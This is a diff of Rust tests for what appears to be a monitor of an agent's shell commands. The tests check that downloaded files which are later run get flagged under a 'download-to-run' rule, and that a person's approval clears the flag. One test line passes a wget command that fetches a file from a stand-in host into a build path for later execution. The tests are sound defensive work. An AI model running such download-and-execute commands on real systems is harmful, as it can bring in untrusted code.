@@ -40,7 +40,8 @@ fn run(memory: &mut Memory, turn: u64, command: &str) {
 
 #[test]
 fn a_strangers_order_is_caught_within_its_window() {
-    let window = Table::shipped().unwrap().flows.iter().find(|flow| flow.id == "untrusted-to-run").unwrap().window;
+    let window =
+        Table::shipped().unwrap().flows.iter().find(|flow| flow.id == "untrusted-to-run").unwrap().window;
     let mut memory = Memory::new(key());
     page(&mut memory, 1);
     for turn in [2, 40, window, window + 1] {
@@ -99,7 +100,11 @@ fn what_a_person_let_pass_isnt_asked_again_and_another_object_is() {
     run(&mut memory, 2, "wget https://x.example/u -O build/out/other");
     let step = memory.judge(&inspected(3, "build/out/tool --run"), &[]).unwrap().step;
     memory.ran(&step);
-    assert_eq!(rules(&memory, 4, "build/out/tool --run"), ["download-to-run"], "running alone settles nothing");
+    assert_eq!(
+        rules(&memory, 4, "build/out/tool --run"),
+        ["download-to-run"],
+        "running alone settles nothing"
+    );
     memory.allowed(&step);
     assert!(rules(&memory, 5, "build/out/tool --run").is_empty(), "a person let it pass");
     assert_eq!(rules(&memory, 6, "build/out/other --run"), ["download-to-run"]);
